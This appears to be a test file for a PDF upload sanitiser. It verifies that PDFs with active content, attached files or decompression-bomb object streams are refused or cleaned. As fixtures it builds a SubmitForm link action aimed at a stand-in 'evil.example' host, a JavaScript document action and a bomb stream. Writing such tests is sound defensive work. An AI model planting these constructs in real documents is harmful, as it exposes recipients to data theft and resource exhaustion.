/**
 * The PDF cleaner's proof step: a document that still carries active content or an
 * attached file after cleaning is refused (PDF_ACTIVE_CONTENT / PDF_EMBEDDED_FILE), not
 * stored. Checked on uncleaned corpus files, which is what a cleaning gap would leave.
 */
import { expect } from 'chai';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { inspect, MAX_STRUCTURE_BYTES, sanitisePdf, structureStreamsTooLarge, verifyClean } from '../../../shared/uploads/sanitise/pdf.js';
import * as H from '../../helpers/hostile-files.js';

describe('uploads: PDF cleaning and its proof', () => {
  it('an uncleaned active PDF fails the proof with PDF_ACTIVE_CONTENT; a PDF with only an attached file with PDF_EMBEDDED_FILE; a plain one passes', async () => {
    expect(await verifyClean(await H.activePdf())).to.equal('PDF_ACTIVE_CONTENT');
    const doc = await PDFDocument.create();
    doc.addPage([100, 100]);
    await doc.attach(Buffer.from('secret'), 'data.bin', { mimeType: 'application/octet-stream' });
    const attached = await doc.save();
    expect(await verifyClean(attached)).to.equal('PDF_EMBEDDED_FILE');
    expect(await verifyClean(await H.plainPdf())).to.equal(null);
    expect(await verifyClean(Buffer.from('not a pdf'))).to.equal('PDF_DAMAGED');
  });

  it('the cleaner removes what the proof looks for, including actions nested directly in annotations and object streams', async () => {
    const doc = await PDFDocument.create();
    const page = doc.addPage([100, 100]);
    const ctx = doc.context;
    const annot = ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 10, 10], A: ctx.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example') }) });
    page.node.set(PDFName.of('Annots'), ctx.obj([annot]));
    doc.catalog.set(PDFName.of('AA'), ctx.obj({ WC: ctx.obj({ S: 'JavaScript', JS: PDFString.of('x()') }) }));
    const withStreams = Buffer.from(await doc.save({ useObjectStreams: true }));
    expect(inspect(await PDFDocument.load(withStreams)).active).to.include.members(['/AA', 'action /SubmitForm']);
    const out = await sanitisePdf(withStreams, 10);
    expect(out.ok).to.equal(true);
    if (out.ok) expect(inspect(await PDFDocument.load(out.bytes))).to.deep.equal({ active: [], embedded: [] });
  });

  it('an object stream that inflates past 32 MB is refused before pdf-lib loads it (PDF_DAMAGED), with memory bounded', async () => {
    const bomb = await H.objectStreamBomb(256);
    expect(bomb.length).to.be.below(1024 * 1024);
    const before = process.memoryUsage().rss;
    expect(structureStreamsTooLarge(bomb)).to.equal(true);
    expect(await sanitisePdf(bomb, 10)).to.deep.equal({ ok: false, code: 'PDF_DAMAGED' });
    // Bounded by the cap (the inflated bytes would be 256 MB).
    expect(process.memoryUsage().rss - before).to.be.below(4 * MAX_STRUCTURE_BYTES);
    expect(structureStreamsTooLarge(await H.objectStreamBomb(8))).to.equal(false);
  });
});
